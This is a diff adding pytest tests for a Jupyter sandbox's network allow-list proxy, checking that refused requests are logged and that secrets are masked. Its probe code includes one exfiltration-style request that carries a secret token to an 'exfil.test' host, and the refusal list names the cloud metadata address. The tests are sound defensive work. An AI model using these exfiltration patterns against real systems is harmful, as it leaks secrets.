@@ -32,9 +32,11 @@ from typing import Any
 
 import pytest
 from _kernels import kernel
+from test_otel import spans  # noqa: F401  (tracing on, into the process's one exporter)
 
 from jupyter_sandbox import SandboxConfigError, create
 from jupyter_sandbox.errors import NonZeroExit
+from jupyter_sandbox.records import RUN_MIME
 
 pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("no_leaked_containers")]
 
@@ -279,7 +281,8 @@ def _lines(log: Path) -> list[str]:
 
 def test_the_code_reaches_the_listed_hosts_and_every_bypass_is_refused(world):
     probes = create("probes", code=PROBES, network=ALLOW, timeout=180)
-    seen = json.loads(probes.execute({}).stdout.strip().splitlines()[-1])
+    run = probes.execute({})
+    seen = json.loads(run.stdout.strip().splitlines()[-1])
     allowed = {"allowed": 200, "cidr_literal": 200}
     assert {k: seen[k] for k in allowed} == allowed, seen
     assert seen["tunnel_allowed"].startswith("HTTP/1.1 200 "), seen
@@ -334,6 +337,26 @@ def test_the_code_reaches_the_listed_hosts_and_every_bypass_is_refused(world):
     assert queried - reverse <= {"allowed.test", "host.test", "meta.test", "gateway.test"}
     assert "allowed.test" in queried
 
+    # the run's record: each refused destination once, with why, in the proxy's own terms
+    log = run.to_record()["requests"]
+    unreachable = "resolves to an address no sandbox may reach"
+    assert log["refusals"] == {
+        "other.test:8080": "not on the list",
+        "allowed.test:8081": "port not on the list",
+        "cidr.test:8080": "not on the list",
+        f"{NET}.1.2:8080": "not on the list",
+        f"{NET}.3.1:8080": "an address no sandbox may reach",
+        "host.test:8080": unreachable,
+        "169.254.169.254:80": "not on the list",
+        "meta.test:80": unreachable,
+        "gateway.test:8080": unreachable,
+        "allowed.test:8080": "ftp: only HTTP and HTTPS",
+        "allowed.test:2222": "port not on the list",
+        "exfil-proxy.test:80": "not on the list",
+        "exfil-connect.test:443": "not on the list",
+    }, log["refusals"]
+    assert (log["allowed"], log["refused"]) == (4, 15), log  # the raw sockets never got there
+
 
 def test_a_refused_host_fails_the_cell_in_one_line(world, shell, capsys):
     shell.user_ns["url"] = "http://other.test:8080/data"
@@ -352,7 +375,159 @@ def test_a_refused_host_fails_the_cell_in_one_line(world, shell, capsys):
     assert (error.parameter, error.hint) == ("allow_net", "network=[...]")
     shown = capsys.readouterr()
     assert "refused other.test:8080: add it to --allow-net" in shown.out + shown.err
+    # the record's text fallback: what the run sent out, the refused request named
+    assert "1 request: 0 allowed, 1 refused: other.test:8080 not on the list" in shown.out
     assert _lines(world["b"]) == []
+
+
+SENT = (
+    CLIENT
+    + r"""
+import os
+t = os.environ["JSBX_TEST_REQUEST_TOKEN"]
+print(json.dumps([
+    get(f"http://allowed.test:8080/ok?key={t}"),
+    get(f"http://allowed.test:8080/p/{t}/x"),
+    tunnel("allowed.test:8080", "GET /tunnel HTTP/1.0\r\n\r\n"),
+    get("http://other.test:8080/away"),
+    get("http://allowed.test:8081/port"),
+    get(f"http://{t}.exfil.test/"),
+]))
+"""
+)
+"""Requests a run's record must list: allowed ones (a query, a secret in the path, a tunnel)
+and refused ones (another host, another port, a secret in the host)."""
+
+
+def test_a_runs_record_lists_every_request_it_sent_with_queries_and_secrets_masked(
+    world,
+    monkeypatch,
+    spans,  # noqa: F811  (the fixture imported above)
+):
+    from jupyter_sandbox.display import _html, _text
+
+    token = "tok" + os.urandom(8).hex()
+    monkeypatch.setenv("JSBX_TEST_REQUEST_TOKEN", token)
+    sandbox = create(
+        "sent",
+        code=SENT,
+        network=["allowed.test:8080"],
+        secrets=["JSBX_TEST_REQUEST_TOKEN"],
+        timeout=180,
+    )
+    run = sandbox.execute({})
+    statuses = json.loads(run.stdout.strip().splitlines()[-1])
+    assert statuses[:2] + statuses[3:] == [200, 200, 403, 403, 403], statuses
+    record = run.to_record()
+    log = record["requests"]
+    assert (log["total"], log["allowed"], log["refused"]) == (6, 3, 3), log
+    rows = [
+        (r["method"], r["host"], r["port"], r["path"], r["status"], r["allowed"], r["why"])
+        for r in log["rows"]
+    ]
+    assert rows == [
+        ("GET", "allowed.test", 8080, "/ok?***", 200, True, None),
+        ("GET", "allowed.test", 8080, "/p/***/x", 200, True, None),
+        ("CONNECT", "allowed.test", 8080, "", 200, True, None),
+        ("GET", "other.test", 8080, "/away", 403, False, "not on the list"),
+        ("GET", "allowed.test", 8081, "/port", 403, False, "port not on the list"),
+        ("GET", "***.exfil.test", 80, "/", 403, False, "not on the list"),
+    ], rows
+    assert all(r["sent"] > 0 and r["received"] > 0 for r in log["rows"]), log["rows"]
+    times = [r["time"] for r in log["rows"]]
+    assert times == sorted(times) and run.duration > times[-1] - times[0], times
+    # what arrived at the server: the query and the secret the code sent, which the log masks
+    assert f"http 8080 /ok?key={token}" in _lines(world["a"])
+    assert _lines(world["b"]) == []
+
+    from test_records_contract import check_record
+
+    from jupyter_sandbox.display._format import summarised
+
+    check_record(record)
+    shown = summarised(record)
+    check_record(shown)
+    line = (
+        "6 requests: 3 allowed, 3 refused: other.test:8080 not on the list,"
+        " allowed.test:8081 port not on the list, ***.exfil.test:80 not on the list"
+    )
+    assert shown.get("summary", {}).get("requests") == line
+    text, html = _text.render(shown), _html.render(shown)
+    assert line in text and "allowed.test:8081" in text.split(line, 1)[1]
+    assert 'class="jsb-requests"' in html and "/p/***/x" in html
+    (span,) = [s for s in spans.get_finished_spans() if s.name == "sandbox sent"]
+    assert span.attributes["jupyter_sandbox.sandbox.requests.refused"] == 3
+    events = [dict(e.attributes) for e in span.events if e.name == "http request"]
+    assert [(e["server.address"], e["server.port"]) for e in events] == [
+        (host, port) for _, host, port, *_ in rows
+    ]
+    assert events[3]["jupyter_sandbox.request.why"] == "not on the list"
+    for said in (json.dumps(record), text, html, repr(events)):
+        assert token not in said
+
+
+def test_runs_in_flight_together_each_list_only_their_own_requests(world):
+    """One proxy serves every run of an allow-list: a run's rows are its own container's.
+    The first run's second request is made while the second run still runs."""
+    allow = ["allowed.test:8080"]
+    first = InFlight(
+        CLIENT
+        + "first = get('http://allowed.test:8080/one')\n"
+        + DOOR
+        + "door.accept()\nprint(get('http://allowed.test:8080/one-again'))\n",
+        allow,
+    )
+    try:
+        status, address = first.first()
+        assert status == "200"
+        code = (
+            CLIENT
+            + "print(get('http://allowed.test:8080/two'))\n"
+            + _knock(address)
+            + "\nimport time; time.sleep(2)\n"
+        )
+        second = create("second", code=code, network=allow, timeout=180).execute({})
+        assert first.end() is None, first.outcome
+    finally:
+        first.stop()
+    assert first.run.stdout.strip().endswith("200")
+    assert _paths(first.run.to_record()) == ["/one", "/one-again"]
+    assert _paths(second.to_record()) == ["/two"]
+    assert _lines(world["a"]).index("http 8080 /two") < _lines(world["a"]).index(
+        "http 8080 /one-again"
+    )
+
+
+LEFT_OPEN = (
+    CLIENT
+    + r"""
+import os
+proxy = urllib.request.getproxies()["http"].rsplit("/", 1)[-1].split(":")
+s = socket.create_connection((proxy[0], int(proxy[1])), timeout=20)
+s.sendall(b"CONNECT allowed.test:8080 HTTP/1.1\r\nHost: allowed.test:8080\r\n\r\n")
+s.recv(4096)
+s.sendall(b"GET /left-open HTTP/1.0\r\n\r\n")
+s.recv(4096)
+os._exit(0)  # the tunnel still open: the proxy logs it only when the container's end closes it
+"""
+)
+
+
+def test_a_tunnel_the_code_left_open_is_in_its_record(world):
+    sandbox = create("open", code=LEFT_OPEN, network=["allowed.test:8080"], timeout=60)
+    for _ in range(3):
+        (row,) = sandbox.execute({}).to_record()["requests"]["rows"]
+        assert (row["method"], row["host"], row["port"], row["status"]) == (
+            "CONNECT",
+            "allowed.test",
+            8080,
+            200,
+        ), row
+    assert _lines(world["a"]).count("http 8080 /left-open") == 3
+
+
+def _paths(record: Any) -> list[str]:
+    return [row["path"] for row in record["requests"]["rows"]]
 
 
 def test_a_refused_host_is_the_first_line_of_the_cells_error(world, tmp_path):
@@ -370,6 +545,17 @@ def test_a_refused_host_is_the_first_line_of_the_cells_error(world, tmp_path):
         "exited with code 1 (its stderr above says why)",
     ], error["traceback"]
     assert "HTTP Error 403: Forbidden" in ran.text  # the stderr, above
+    *_, shown = [  # the record's last state: the run's end
+        m["content"]["data"]
+        for m in ran.outputs
+        if m["msg_type"] in ("display_data", "update_display_data")
+        and RUN_MIME in m["content"].get("data", {})
+    ]
+    log = shown[RUN_MIME]["requests"]
+    assert log["refusals"] == {"other.test:8080": "not on the list"}, log
+    line = "1 request: 0 allowed, 1 refused: other.test:8080 not on the list"
+    assert shown[RUN_MIME]["summary"]["requests"] == line
+    assert line in shown["text/plain"] and line in shown["text/html"]
     assert _lines(world["b"]) == []
 
 
